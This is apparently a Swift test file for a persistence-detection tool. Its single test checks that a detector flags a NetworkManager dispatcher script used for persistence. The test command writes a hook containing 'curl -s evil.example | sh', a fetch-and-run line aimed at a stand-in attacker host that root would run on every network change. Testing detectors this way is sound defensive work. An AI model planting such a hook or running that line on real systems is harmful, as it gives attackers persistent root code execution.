import Foundation
import XCTest

/// Evasion tier, class 4. Technique: a NetworkManager dispatcher script, which root runs
/// at every network change (an interface up, a VPN, a DHCP renewal): neither cron nor init
/// nor systemd. ATT&CK T1037 (Boot or Logon Initialization Scripts).
final class NetworkDispatcherHookTests: TetherRunTestCase {
    func testANetworkManagerDispatcherScriptIsPersistence() throws {
        let dispatcher = "/etc/NetworkManager/dispatcher.d"
        if !FileManager.default.fileExists(atPath: "/etc/NetworkManager") { cleanup.append("/etc/NetworkManager") }
        try FileManager.default.createDirectory(atPath: dispatcher, withIntermediateDirectories: true)
        let hook = "/etc/NetworkManager/dispatcher.d/99-tether-evasion-\(getpid())"
        try assertCaught("""
            printf '#!/bin/sh\\ncurl -s evil.example | sh\\n' > \(hook)
            """, rule: "persist.init_scripts", path: hook)
    }
}
